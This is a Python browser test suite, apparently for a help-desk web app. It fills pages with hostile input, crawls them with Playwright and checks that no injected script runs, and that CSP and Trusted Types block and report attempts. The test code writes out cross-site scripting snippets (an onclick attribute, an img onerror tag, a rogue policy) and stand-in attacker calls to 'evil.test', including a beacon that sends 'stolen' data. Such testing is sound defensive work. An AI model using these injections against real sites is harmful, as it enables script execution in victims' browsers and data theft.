"""Everything that can be filled is filled with scripts; every page that can be reached is opened in a real browser.

Nothing may run, nothing may be refused by the policy either: it is a second wall, and ours stands before it.
"""

import re
from urllib.parse import urlsplit

import httpx
from playwright.async_api import Browser, Page

from parlour.entrance import COOKIE
from parlour.people import Actor
from tests.attacks.hostile import SHORT, Hostile
from tests.browser.desks import Desks
from tests.browser.web import Web
from tests.builders import Company, begin_session
from tests.doors.conftest import Clients
from tests.waiting import until

WATCH = """
    window.ran = 0;
    for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = () => { window.ran += 1; };
"""
POKE = """() => {
    for (const element of document.querySelectorAll('main *')) {
        for (const name of ['mouseover', 'focus', 'error', 'load', 'toggle', 'animationstart'])
            element.dispatchEvent(new Event(name, {bubbles: false}));
    }
    return window.ran;
}"""
LEAVES_ALONE = re.compile(
    r"/(sign-out|api|metrics|static|images|dev)\b|/attachments/|/files/|/pictures/|\.eml|/raw|/export"
)
_THINGS = re.compile(r"[0-9a-f]{8}-[0-9a-f-]{27}|\b\d+\b")


class Walker:
    """Follows every link from page to page: each kind of page a few times, each place once."""

    def __init__(self, page: Page, home: str, *, of_a_kind: int = 3) -> None:
        self.seen: list[str] = []
        self.ran: list[str] = []
        self._page = page
        self._host = urlsplit(home).netloc
        self._of_a_kind = of_a_kind
        self._kinds: dict[str, int] = {}
        self._known: set[str] = set()
        self._waiting: list[str] = []

    async def walk(self, *beginnings: str) -> None:
        self._note(beginnings)
        while self._waiting:
            path = self._waiting.pop(0)
            await self._page.goto(path, wait_until="load")
            self.seen.append(path)
            if await self._page.evaluate(POKE):
                self.ran.append(path)
            links = await self._page.eval_on_selector_all("a[href]", "all => all.map(a => a.href)")
            frames = await self._page.eval_on_selector_all(
                "turbo-frame[src]", "all => all.map(f => f.getAttribute('src'))"
            )
            self._note([*links, *frames])

    def _note(self, addresses: object) -> None:
        for address in addresses:  # type: ignore[attr-defined]
            parts = urlsplit(address)
            path = parts.path + (f"?{parts.query}" if parts.query else "")
            # What would run as the page itself must not even stand in an address.
            if parts.scheme == "javascript":
                self.ran.append(address)
            if (parts.netloc and parts.netloc != self._host) or parts.scheme not in ("", "http"):
                continue
            kind = _THINGS.sub("#", parts.path) + "?" + "&".join(sorted(re.findall(r"(\w+)=", parts.query)))
            if path in self._known or LEAVES_ALONE.search(path) or self._kinds.get(kind, 0) >= self._of_a_kind:
                continue
            self._kinds[kind] = self._kinds.get(kind, 0) + 1
            self._known.add(path)
            self._waiting.append(path)


async def _walked(desks: Desks, company: Company, actor: Actor, *beginnings: str) -> Walker:
    page = await desks.page(company, actor)
    await page.add_init_script(WATCH)
    walker = Walker(page, desks.url)
    await walker.walk(*beginnings)
    return walker


async def test_whatever_is_written_anywhere_runs_on_no_page(acme: Company, at_acme: Clients, desks: Desks) -> None:
    hostile = Hostile(acme, await at_acme.program("alice"), await at_acme.program("carol"))
    await hostile.fill()
    searches = [f"/dashboard/search?q={payload.replace(' ', '+').replace('&', '%26')}" for payload in SHORT]
    agent = await _walked(desks, acme, acme.alice, "/dashboard", "/dashboard/settings", *searches)
    customer = await _walked(desks, acme, acme.carol, f"/portal/{acme.slug}")
    assert agent.ran == customer.ran == []
    assert len(agent.seen) > 40, agent.seen
    assert len(customer.seen) > 4, customer.seen
    # `desks` looks besides that no console told of anything refused.


async def test_what_was_typed_into_a_refused_form_does_not_run_either(acme: Company, desks: Desks) -> None:
    page = await desks.page()
    await page.add_init_script(WATCH)
    for payload in SHORT:
        await page.goto(f"/sign-in?next={payload.replace(' ', '+').replace('&', '%26')}")
        await page.fill("input[name=email]", f"{payload}@x.test")
        await page.fill("input[name=password]", payload)
        await page.eval_on_selector("form", "form => { form.noValidate = true; form.requestSubmit(); }")
        await page.wait_for_load_state("networkidle")
        assert await page.evaluate(POKE) == 0


async def test_a_script_that_got_into_a_page_is_stopped_and_reported(
    acme: Company, site: Web, browser: Browser
) -> None:
    async with httpx.AsyncClient(base_url=site.url) as prometheus:
        before = await _reported(prometheus)
        # No desk: there a refused script is a trouble.
        context = await browser.new_context(base_url=site.url)
        await context.add_cookies([{"name": COOKIE, "value": await begin_session(acme, acme.bob), "url": site.url}])
        page = await context.new_page()
        await page.add_init_script(WATCH)
        await page.goto("/dashboard/views/unresolved")
        await page.wait_for_load_state("networkidle")
        assert await page.evaluate(INJECT) == 0
        assert await page.evaluate(BECOMES_MARKUP) == "TypeError"
        assert await page.evaluate(OWN_POLICY) == "TypeError"

        async def came() -> bool:
            now = await _reported(prometheus)
            return all(now.get(kind, 0) > before.get(kind, 0) for kind in KINDS)

        try:
            await until(came, within=20)
        finally:
            await context.close()


KINDS = ("require-trusted-types-for", "trusted-types", "img-src")
INJECT = """async () => {
    const button = document.createElement('button');
    document.body.append(button);
    try { button.setAttribute('onclick', 'window.ran += 1'); button.click(); } catch {}
    const script = document.createElement('script');
    try { script.textContent = 'window.ran += 1'; } catch {}
    script.append('window.ran += 1');
    document.body.append(script);
    const elsewhere = document.createElement('script');
    try { elsewhere.src = 'https://evil.test/x.js'; } catch {}
    const picture = new Image();
    picture.src = 'https://evil.test/stolen?word=secret';
    await new Promise((done) => setTimeout(done, 200));
    return window.ran;
}"""
BECOMES_MARKUP = """() => {
    try { document.createElement('div').innerHTML = '<img src=x onerror="window.ran += 1">'; return 'taken'; }
    catch (error) { return error.name; }
}"""
OWN_POLICY = """() => {
    try { trustedTypes.createPolicy('evil', {createHTML: (html) => html}); return 'taken'; }
    catch (error) { return error.name; }
}"""


async def _reported(prometheus: httpx.AsyncClient) -> dict[str, float]:
    told = (await prometheus.get("/metrics")).text
    found = re.findall(r'parlour_csp_violations_total\{directive="([a-z-]+)"\} (\S+)', told)
    return {directive: float(count) for directive, count in found}
